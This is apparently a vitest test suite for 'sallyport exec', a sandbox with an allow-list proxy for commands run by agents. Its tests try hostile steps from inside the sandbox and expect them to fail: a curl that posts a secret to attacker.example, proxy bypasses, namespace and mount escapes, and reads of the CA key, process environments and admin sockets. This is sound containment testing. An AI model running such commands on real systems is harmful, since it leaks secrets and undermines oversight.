// `sallyport exec`: the command has its own exit code and terminal, and nothing leads out of it but the proxy. What it may not have
// is tried from inside, by the means that an agent has.

import { execFile } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { startSallyport } from "../../src/assemble.ts";
import { whyNoWall } from "../../src/exec/wall.ts";
import { callApi } from "../support/api.ts";
import { recordingOrigin, type RecordingOrigin } from "../support/recording-origin.ts";

const MAIN = join(import.meta.dirname, "../../src/cli/main.ts");
const why = whyNoWall();

let origin: RecordingOrigin;
let home: string;
beforeAll(async () => {
  origin = await recordingOrigin();
  home = mkdtempSync(join(tmpdir(), "sallyport-exec-test-"));
  writeFileSync(
    join(home, "sallyport.yaml"),
    `anonymous: default
upstream: { hosts: { one.test: [127.0.0.1] } }
policies:
  default: { preset: none, allow: [{ host: one.test, networks: [127.0.0.0/8] }] }
`,
  );
});
afterAll(async () => {
  await origin[Symbol.asyncDispose]();
  rmSync(home, { recursive: true, force: true });
});

type Ran = { readonly code: number; readonly stdout: string; readonly stderr: string };

function exec(
  options: readonly string[],
  script: string,
  more: Readonly<Record<string, string>> = {},
  cwd = home,
): Promise<Ran> {
  const env = { PATH: process.env["PATH"], HOME: home, ...more };
  const args = [MAIN, "exec", ...options, "--", "sh", "-c", script];
  return new Promise((resolve) => {
    execFile(process.execPath, args, { cwd, env, timeout: 60_000 }, (error, stdout, stderr) => {
      resolve({
        code: typeof error?.code === "number" ? error.code : error === null ? 0 : -1,
        stdout,
        stderr,
      });
    });
  });
}

const WALL = why === undefined ? [] : [`: ${why}`];

describe.skipIf(why !== undefined)(`behind the wall${WALL.join("")}`, () => {
  test("the exit code is the command's, also of one that a signal ended", async () => {
    expect((await exec([], "exit 7")).code).toBe(7);
    expect((await exec([], "kill -TERM $$")).code).toBe(143);
    expect((await exec([], "no-such-command-at-all")).code).toBe(127);
  }, 60_000);

  test("an allowed request passes by the proxy, another is refused and told of at the end", async () => {
    origin.reset();
    const { stdout, stderr } = await exec(
      [],
      `curl -sS -o /dev/null -w '%{http_code}\\n' http://one.test:${origin.port}/in
       curl -sS -o /dev/null -w '%{http_code}\\n' -d secret http://one.test:${origin.port}/out
       curl -sS -d secret https://attacker.example/collect; true`,
    );
    expect(stdout).toBe("200\n403\n");
    expect(origin.received).toContain("GET /in HTTP/1.1");
    expect(origin.received).not.toContain("secret");
    expect(stderr).toContain(`POST http://one.test:${origin.port}/out  method-not-allowed`);
    expect(stderr).toContain("CONNECT attacker.example:443  host-not-allowed");
  });

  test.each([
    [
      "a connection to this machine",
      (port: number) => `curl -sS --noproxy '*' -m 3 http://127.0.0.1:${port}/round`,
    ],
    [
      "a connection by an address of an interface",
      (port: number) => `curl -sS --noproxy '*' -m 3 http://192.0.2.1:${port}/round`,
    ],
    ["IPv6", (port: number) => `curl -sS --noproxy '*' -m 3 http://[::1]:${port}/round`],
    ["a name", () => "getent hosts localhost.localdomain.example"],
    [
      "UDP to a name server",
      () =>
        "node -e \"require('dgram').createSocket('udp4').send('x',53,'192.0.2.53',e=>process.exit(e?1:0))\"",
    ],
    [
      "taking its rights back",
      () =>
        "mount -t tmpfs tmpfs /mnt || umount /run || ip link add x type dummy || nsenter -t 1 -n true && false",
    ],
  ])("%s leads nowhere", async (_what, script) => {
    origin.reset();
    expect((await exec([], `(${script(origin.port)}) >/dev/null 2>&1`)).code).not.toBe(0);
    expect(origin.received).toBe("");
  });

  test("the proxy's own files and other programs' sockets are not there", async () => {
    const { stdout } = await exec(
      [],
      "ls certs /run .local/state/sallyport; cat certs/ca.key; ps ax -o pid= | wc -l; ls -l /proc/*/exe 2>/dev/null | wc -l",
    );
    expect(stdout).not.toMatch(/ca\.key|PRIVATE KEY|docker|dbus|audit/);
  });

  test("a proxy that runs by the same file is out of reach: its API, its sockets, its records", async () => {
    const own = mkdtempSync(join(tmpdir(), "sallyport-exec-own-"));
    writeFileSync(
      join(own, "sallyport.yaml"),
      `listen: [{ socket: way-in.sock, sandbox: wide }]
admin: "127.0.0.1:0"
log: { level: silent }
anonymous: default
sandboxes: [{ id: wide, policy: default }]
`,
    );
    const stream = { isTTY: false, write: () => true, close: async () => {} };
    const running = await startSallyport({ cwd: own, env: process.env, stream });
    try {
      const script = `cat data/audit/*.jsonl data/sallyport.db | wc -c
        curl -sS -m 3 --unix-socket data/admin.sock http://localhost/v1/whoami
        curl -sS -m 3 --unix-socket way-in.sock http://sallyport.internal/; env`;
      const secrets = { SALLYPORT_ADMIN: "http://127.0.0.1:1", SALLYPORT_TOKEN: "spt_of-somebody" };
      const { stdout } = await exec([], script, secrets, own);
      expect(stdout).toMatch(/^0\n/);
      expect(stdout).not.toMatch(/"role"|This sandbox's network|spt_of-somebody/);
      // Outside it answers.
      expect(
        (await callApi({ socketPath: join(own, "data/admin.sock") }, { path: "/v1/whoami" })).status,
      ).toBe(200);
    } finally {
      await running.stop();
      rmSync(own, { recursive: true });
    }
  }, 60_000);

  test("secrets of the file are put in, and nowhere inside", async () => {
    writeFileSync(join(home, "token"), "s3cr3t-of-the-file");
    writeFileSync(
      join(home, "secret.yaml"),
      `anonymous: default
policies:
  default:
    preset: none
    allow: [one.test]
    secrets:
      - { name: one, value: "\${A_TOKEN}", hosts: [one.test], as: bearer }
      - { name: two, file: token, hosts: [one.test], as: { header: X-Two } }
      - { name: three, value: s3cr3t-as-written, hosts: [one.test], as: { query: three } }
`,
    );
    const script = `env; cat token secret.yaml; cat /proc/*/environ 2>/dev/null; curl -sS -m 5 -i http://one.test/`;
    const { code, stdout } = await exec(["--config", "secret.yaml"], script, {
      A_TOKEN: "s3cr3t-of-the-environment",
    });
    expect(code).toBe(0);
    expect(stdout).toContain("secret-needs-tls");
    expect(stdout).not.toMatch(/s3cr3t|A_TOKEN/);
  });

  test("what a stranger's file would do with secrets is not done", async () => {
    writeFileSync(
      join(home, "stranger.yaml"),
      `policies: { default: { secrets: [{ name: a, command: [touch, ran], hosts: [a.test], as: bearer }] } }\n`,
    );
    const elsewhere = mkdtempSync(join(tmpdir(), "sallyport-exec-elsewhere-"));
    renameSync(join(home, "stranger.yaml"), join(elsewhere, "sallyport.yaml"));
    const { code, stderr } = await exec([], "true", {}, elsewhere);
    expect(code).toBe(1);
    expect(stderr).toContain("name it with --config");
    expect(readdirSync(elsewhere)).toEqual(["sallyport.yaml"]);
    rmSync(elsewhere, { recursive: true });
  });
});

test("the command cannot change what binds it, nor the next one unseen", async () => {
  const project = mkdtempSync(join(tmpdir(), "sallyport-exec-project-"));
  const wider = `anonymous: default\nupstream: { hosts: { one.test: [127.0.0.1] } }\npolicies: { default: { methods: all, allow: [{ host: one.test, networks: [127.0.0.0/8] }] } }\n`;
  writeFileSync(join(project, "sallyport.yaml"), readFileSync(join(home, "sallyport.yaml")));
  const post = `curl -sS -o /dev/null -w '%{http_code}\\n' -d x http://one.test:${origin.port}/out`;
  const put = (name: string) => `printf '${wider.replaceAll("\n", "\\n")}' > ${name}`;
  const first = await exec(
    ["--no-wall"],
    `${post}; ${put("new")}; mv new sallyport.yaml; sleep 1; ${post}`,
    {},
    project,
  );
  expect(first.stdout).toBe("403\n403\n");
  expect(first.stderr).toContain("changed while the command ran: look at it. It did not hold.");

  const second = await exec(["--no-wall"], post, {}, project);
  expect([second.code, second.stdout]).toEqual([1, ""]);
  expect(second.stderr).toContain("--accept-changes");
  expect((await exec(["--no-wall", "--accept-changes"], post, {}, project)).stdout).toBe("200\n");
  expect((await exec(["--no-wall"], post, {}, project)).stdout).toBe("200\n");

  rmSync(join(project, "sallyport.yaml"));
  await exec(["--no-wall"], put("sallyport.yaml"), {}, project);
  expect((await exec(["--no-wall"], post, {}, project)).code).toBe(1);
  rmSync(project, { recursive: true });
}, 90_000);

test.skipIf(why !== undefined)(
  "the project is not hidden with the key: nothing runs where it would be",
  async () => {
    const project = mkdtempSync(join(tmpdir(), "sallyport-exec-project-"));
    writeFileSync(
      join(project, "sallyport.yaml"),
      "anonymous: default\ncerts: .\npolicies: { default: { preset: none } }\n",
    );
    const { code, stdout, stderr } = await exec([], "ls", {}, project);
    expect({ code, stdout }).toEqual({ code: 1, stdout: "" });
    expect(stderr).toContain("is hidden from the command, and this directory is in it");
    rmSync(project, { recursive: true });
  },
);

test("without a wall it is said loudly", async () => {
  const { code, stdout, stderr } = await exec(["--no-wall"], "echo $HTTPS_PROXY | cut -d@ -f2 | cut -d: -f1");
  expect({ code, stdout }).toEqual({ code: 0, stdout: "127.0.0.1\n" });
  expect(stderr).toContain("It is NOT held back.");
});
